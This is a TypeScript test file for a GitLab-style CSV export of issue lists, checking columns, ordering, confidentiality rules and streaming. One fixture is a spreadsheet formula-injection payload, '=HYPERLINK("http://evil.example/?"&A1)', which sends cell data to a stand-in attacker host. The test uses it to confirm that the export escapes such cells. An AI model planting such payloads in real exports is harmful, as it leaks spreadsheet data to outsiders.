import { beforeAll, describe, expect, it } from 'vitest';
import { AccessLevel } from '../../policy/access-levels';
import { csvDownloads, itAnswersAsItsList } from '../../test/csv-downloads';
import { createIssuesInBulk } from '../../test/factories';
import { useRestTestApp } from '../../test/rest-test-app';

/** "Export as CSV" of the project and group issue lists (issue 32): GitLab's columns, the list's rules, streamed. */
const t = useRestTestApp({
  prefix: 'csv_',
  users: ['owner', 'guest', 'outsider'],
  groups: {
    acme: { path: 'csvacme', members: { owner: AccessLevel.OWNER, guest: AccessLevel.GUEST } },
    open: { path: 'csvopen', visibility: 20, members: { owner: AccessLevel.OWNER } },
  },
  projects: {
    web: { path: 'web', group: 'acme' },
    api: { path: 'api', group: 'acme' },
    bulk: { path: 'bulk', group: 'acme' },
    pub: { path: 'pub', group: 'open', visibility: 20 },
  },
});
const { api, uid, pid, gid } = t;
const { exportRows, expectDatedAttachment, expectListOrder, expectNotFound } = csvDownloads(t);

/** GitLab's `Issues::ExportCsvService` columns, then EE's epic columns (a project in a group). */
const GITLAB_COLUMNS = [
  'Title',
  'Description',
  'Issue ID',
  'URL',
  'State',
  'Author',
  'Author Username',
  'Assignee',
  'Assignee Username',
  'Confidential',
  'Locked',
  'Due Date',
  'Created At (UTC)',
  'Updated At (UTC)',
  'Closed At (UTC)',
  'Milestone',
  'Weight',
  'Labels',
  'Time Estimate',
  'Time Spent',
  'Epic ID',
  'Epic Title',
];

const newIssue = async (projectId: number, fields: Record<string, unknown>) => {
  const res = await api('POST', `/projects/${projectId}/issues`, 'owner', fields);
  expect(res.statusCode, res.body).toBe(201);
  return res.json() as { iid: number; id: number };
};

let formulaIid = 0;
let secretIid = 0;

beforeAll(async () => {
  const milestone = await api('POST', `/projects/${pid.web}/milestones`, 'owner', {
    title: 'v1',
    due_date: '2030-01-01',
  });
  expect(milestone.statusCode, milestone.body).toBe(201);
  const alpha = await newIssue(pid.web, {
    title: 'Alpha, "quoted"',
    description: 'Line one\nline two',
    labels: 'feature,bug',
    due_date: '2031-05-06',
    weight: 3,
    assignee_ids: [uid.owner],
    milestone_id: milestone.json().id,
  });
  await api('POST', `/projects/${pid.web}/issues/${alpha.iid}/add_spent_time`, 'owner', { duration: '1h' });
  await api('POST', `/projects/${pid.web}/issues/${alpha.iid}/time_estimate`, 'owner', { duration: '2h' });
  formulaIid = (
    await newIssue(pid.web, { title: '=HYPERLINK("http://evil.example/?"&A1)', description: '-2+3', weight: 1 })
  ).iid;
  await newIssue(pid.web, { title: '+plus', description: '@SUM(A1)', labels: 'bug', due_date: '2030-02-02' });
  const closed = await newIssue(pid.web, { title: 'Closed one', labels: 'bug', weight: 5 });
  expect(
    (await api('PUT', `/projects/${pid.web}/issues/${closed.iid}`, 'owner', { state_event: 'close' })).statusCode,
  ).toBe(200);
  secretIid = (await newIssue(pid.web, { title: 'Secret plan', confidential: true })).iid;
  await newIssue(pid.api, { title: 'In the other project', labels: 'bug' });
  await newIssue(pid.pub, { title: 'Public issue' });
});

describe('GET /<project>/-/issues.csv', () => {
  itAnswersAsItsList(t, {
    csvPath: '/csvacme/web/-/issues.csv',
    restPath: () => `/projects/${pid.web}/issues`,
    attachmentName: 'web-issues',
    columns: GITLAB_COLUMNS,
    queries: [
      '',
      '?state=opened&labels=bug&order_by=title&sort=asc',
      '?order_by=due_date&sort=desc',
      '?order_by=weight&sort=asc',
      '?order_by=updated_at&sort=asc&not[labels]=feature',
      '?order_by=milestone_due&sort=asc',
      '?order_by=priority',
      '?search=plus&in=title',
    ],
    column: 'Issue ID',
    field: 'iid',
    missingPath: '/csvacme/nothing/-/issues.csv',
    publicDownload: { path: '/csvopen/pub/-/issues.csv', titles: ['Public issue'] },
    badFilter: 'state',
  });

  it("writes each issue's cells as GitLab does", async () => {
    const rows = await exportRows('/csvacme/web/-/issues.csv', 'owner');
    const alpha = rows.find((r) => r.Title === 'Alpha, "quoted"');
    expect(alpha).toMatchObject({
      Description: 'Line one\nline two',
      State: 'Open',
      'Author Username': 'csv_owner',
      'Assignee Username': 'csv_owner',
      Confidential: 'No',
      Locked: 'No',
      'Due Date': '2031-05-06',
      'Closed At (UTC)': '',
      Milestone: 'v1',
      Weight: '3',
      Labels: 'bug,feature',
      'Time Estimate': '7200',
      'Time Spent': '3600',
      'Epic ID': '',
    });
    expect(alpha?.URL).toMatch(/\/csvacme\/web\/-\/issues\/1$/);
    expect(alpha?.['Created At (UTC)']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    const closed = rows.find((r) => r.Title === 'Closed one');
    expect(closed?.State).toBe('Closed');
    expect(closed?.['Closed At (UTC)']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
  });

  it('prefixes cells a spreadsheet would run as formulas with a quote', async () => {
    const rows = await exportRows('/csvacme/web/-/issues.csv', 'owner');
    const formula = rows.find((r) => r['Issue ID'] === String(formulaIid));
    expect(formula?.Title).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
    expect(formula?.Description).toBe("'-2+3");
    const plus = rows.find((r) => r.Title === "'+plus");
    expect(plus?.Description).toBe("'@SUM(A1)");
  });

  it('leaves confidential issues out for a Guest, as the list does', async () => {
    const asGuest = await exportRows('/csvacme/web/-/issues.csv', 'guest');
    expect(asGuest.map((r) => r['Issue ID'])).not.toContain(String(secretIid));
    expect(asGuest.length).toBeGreaterThan(0);
    const asOwner = await exportRows('/csvacme/web/-/issues.csv', 'owner');
    expect(asOwner.map((r) => r['Issue ID'])).toContain(String(secretIid));
  });
});

describe('GET /groups/<group>/-/issues.csv', () => {
  it("lists the group's issues as GET /groups/:id/issues does, in its order", async () => {
    await expectDatedAttachment('/groups/csvacme/-/issues.csv', 'owner', 'csvacme-issues', GITLAB_COLUMNS);
    const query = '?labels=bug&order_by=title&sort=asc';
    const csvPath = `/groups/csvacme/-/issues.csv${query}`;
    const rows = await expectListOrder({
      restPath: `/groups/${gid.acme}/issues${query}`,
      csvPath,
      who: 'owner',
      column: 'URL',
      field: 'web_url',
    });
    expect(rows.some((r) => r.URL?.includes('/csvacme/api/-/issues/'))).toBe(true);
  });

  it('is 404 for a group the caller may not see', async () => {
    await expectNotFound('/groups/csvacme/-/issues.csv', ['outsider', undefined]);
  });
});

describe('a long export', () => {
  const COUNT = 1_500;
  beforeAll(async () => {
    await createIssuesInBulk(t.db, { projectId: pid.bulk, authorId: uid.owner as number, count: COUNT });
  });

  it('streams every row, in keyset batches across equal sort keys, without the pages’ limit', async () => {
    const rows = await exportRows('/csvacme/bulk/-/issues.csv', 'owner');
    expect(rows).toHaveLength(COUNT);
    // One insert: one created_at for all, so the order is id (and so iid) descending.
    const iids = rows.map((r) => Number(r['Issue ID']));
    expect(iids).toEqual([...iids].sort((a, b) => b - a));
    expect(new Set(iids).size).toBe(COUNT);
  });

  it('keeps a text order across batches as the REST list pages it', async () => {
    const rows = await exportRows('/csvacme/bulk/-/issues.csv?order_by=title&sort=asc', 'owner');
    const listed: number[] = [];
    for (let page = 1; page <= COUNT / 100; page++) {
      const res = await api(
        'GET',
        `/projects/${pid.bulk}/issues?order_by=title&sort=asc&per_page=100&page=${page}`,
        'owner',
      );
      listed.push(...(res.json() as Array<{ iid: number }>).map((i) => i.iid));
    }
    expect(rows.map((r) => Number(r['Issue ID']))).toEqual(listed);
  });
});
